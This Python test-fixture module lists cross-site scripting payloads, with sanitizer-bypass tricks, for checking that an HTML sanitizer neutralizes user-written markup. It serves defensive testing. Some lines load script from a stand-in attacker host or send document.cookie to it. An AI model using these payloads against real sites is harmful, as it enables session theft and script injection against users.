"""Cross-site scripting payloads that user-written HTML must survive harmlessly.

``XSS_PAYLOADS`` is a plain list of strings, each something a participant might type
into a proposal, a comment or a profile: script tags, event handlers of several kinds,
``javascript:`` / ``data:`` / ``vbscript:`` URLs hidden by case, entities, whitespace and
control characters, SVG and MathML, frames and objects, CSS expressions, malformed,
nested and unclosed markup, null bytes, and markdown-looking links. After sanitizing,
none may leave a tag other than the allowed formatting ones, an event-handler
attribute, or a URL with a dangerous scheme. Unit tests run them through
``civitas.core.links.sanitize_user_html``; browser tests can submit them through
forms and check that no dialog opens.
"""

XSS_PAYLOADS = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example/x.js")</script>',
    "<p>text<script>document.location='//evil.example/?c='+document.cookie</script></p>",
    "<script\x00>alert(1)</script>",
    # Event handlers of several kinds
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click me</p>',
    "<div onmouseover=alert(1)>hover</div>",
    '<a href="/x" onfocus="alert(1)" autofocus>focus</a>',
    '<input onfocus=alert(1) autofocus value="x">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<strong onpointerenter="alert(1)">bold</strong>',
    "<marquee onstart=alert(1)>scrolling</marquee>",
    "<p/onclick=alert(1)>slash instead of space</p>",
    "<b\tonclick=alert(1)>tab instead of space</b>",
    # javascript:, data: and vbscript: URLs with case, entity and whitespace tricks
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">encoded tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">hex and named entity</a>',
    '<a href="javascript&#0000058alert(1)">padded entity</a>',
    '<a href="java\x00script:alert(1)">null byte</a>',
    '<a href="\x01javascript:alert(1)">control character</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">data upper case</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="VBScript:MsgBox(1)">vbscript mixed case</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>send</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # Frames, objects and embeds
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # Style and CSS expressions
    '<div style="background:url(javascript:alert(1))">style url</div>',
    '<p style="width: expression(alert(1))">expression</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    # Malformed, nested and unclosed HTML
    '<a href="/ok"><a href="javascript:alert(1)">nested link</a></a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)"',
    '<p><strong><em><a href="javascript:alert(1)">deep</a></em></strong>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<a href="https://example.org/" title="x" onmouseover="alert(1)">title and handler</a>',
    # Markdown-looking links (must stay inert text, never become links)
    "[click me](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    "<javascript:alert(1)>",
]
